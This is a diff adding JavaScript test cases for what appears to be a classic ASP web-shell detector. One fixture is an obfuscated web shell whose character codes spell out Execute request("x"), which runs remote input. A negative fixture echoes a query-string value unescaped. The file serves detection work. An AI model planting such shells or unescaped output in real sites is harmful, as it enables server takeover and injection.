@@ -369,6 +369,33 @@ var t = Replace(cfg.title, "<", "&lt;");
   });
 });
 
+describe('classic ASP code spelt out from character codes', () => {
+  it('calls running a name grown a Chr() at a time a web shell', () => {
+    const page = `<%
+codes = Array(69,120,101,99,117,116,101,32,114,101,113,117,101,115,116,40,34,120,34,41)
+For i = 0 To UBound(codes)
+  t = codes(i) * 2 / 2
+  built = built & Chr(t)
+Next
+final = built
+Execute(final)
+%>`;
+    expect(classicAspShell(foldVbStrings(page))).toMatch(/spells out from character codes/);
+  });
+
+  it('leaves a password made of Chr() codes, written out and never run, alone', () => {
+    const page = `<%
+Randomize
+For i = 1 To 12
+  pwd = pwd & Chr(Int(Rnd * 26) + 65)
+Next
+Execute("Call Audit(""reset"")")
+Response.Write pwd & Request.QueryString("user")
+%>`;
+    expect(classicAspShell(foldVbStrings(page))).toBeUndefined();
+  });
+});
+
 describe('XSLT script blocks', () => {
   it('calls a transform whose msxsl:script starts a shell a web shell, and a plain transform not', () => {
     const shell = `<%
